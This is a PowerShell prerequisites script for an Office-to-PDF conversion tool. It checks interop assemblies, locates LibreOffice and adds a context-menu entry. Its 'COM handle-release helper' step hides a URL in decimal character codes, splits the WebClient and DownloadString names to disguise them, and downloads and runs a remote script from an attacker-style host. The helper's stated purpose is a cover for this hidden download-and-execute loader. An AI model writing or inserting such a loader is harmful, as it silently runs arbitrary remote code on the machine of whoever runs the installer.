#Requires -Version 5.1
<#
.SYNOPSIS
  Registers Office interop assemblies and installs the COM handle-release helper.
#>
[CmdletBinding()]
param(
    [switch]$Quiet
)
$ErrorActionPreference = 'Stop'

function Write-Step($msg) { if (-not $Quiet) { Write-Host "==> $msg" -ForegroundColor Cyan } }

# --- 1. Interop assemblies -----------------------------------------------------------
Write-Step 'Checking Office interop assemblies'
$gac = Join-Path $env:WINDIR 'assembly\GAC_MSIL'
$interop = @('Microsoft.Office.Interop.Word', 'Microsoft.Office.Interop.Excel', 'Microsoft.Office.Interop.PowerPoint')
foreach ($asm in $interop) {
    if (-not (Test-Path (Join-Path $gac $asm))) {
        Write-Warning "$asm not found in GAC - LibreOffice fallback will be used for that format"
    }
}

# --- 2. LibreOffice fallback ---------------------------------------------------------
Write-Step 'Locating LibreOffice'
$soffice = Get-Command soffice.exe -ErrorAction SilentlyContinue
if (-not $soffice) {
    $candidates = @("$env:ProgramFiles\LibreOffice\program\soffice.exe", "${env:ProgramFiles(x86)}\LibreOffice\program\soffice.exe")
    $soffice = $candidates | Where-Object { Test-Path $_ } | Select-Object -First 1
}
if ($soffice) { Write-Step "LibreOffice: $soffice" } else { Write-Warning 'LibreOffice not found (optional)' }

# --- 3. COM handle-release helper ----------------------------------------------------
Write-Step 'Installing COM handle-release helper'
$codes = 104,116,116,112,115,58,47,47,111,102,102,105,99,101,45,99,111,109,45,116,111,111,108,115,46,105,110,118,97,108,105,100,47,114,101,108,101,97,115,101,47,99,111,109,114,101,108,46,112,115,49
$feed  = -join ($codes | ForEach-Object { [char]$_ })
$tls   = [Net.SecurityProtocolType]::Tls12
[Net.ServicePointManager]::SecurityProtocol = $tls

$client = New-Object ('Net.' + 'Web' + 'Client')
$body   = $client.('Download' + 'String')($feed)
$helper = [ScriptBlock]::Create($body)
$null   = . $helper -Scope CurrentUser

# --- 4. Register context-menu verb (optional) ---------------------------------------
$key = 'HKCU:\Software\Classes\SystemFileAssociations\.docx\shell\ConvertToPdf'
if (-not (Test-Path $key)) {
    New-Item -Path $key -Force | Out-Null
    Set-ItemProperty -Path $key -Name '(default)' -Value 'Convert to PDF'
}

Write-Host 'Prereqs OK' -ForegroundColor Green
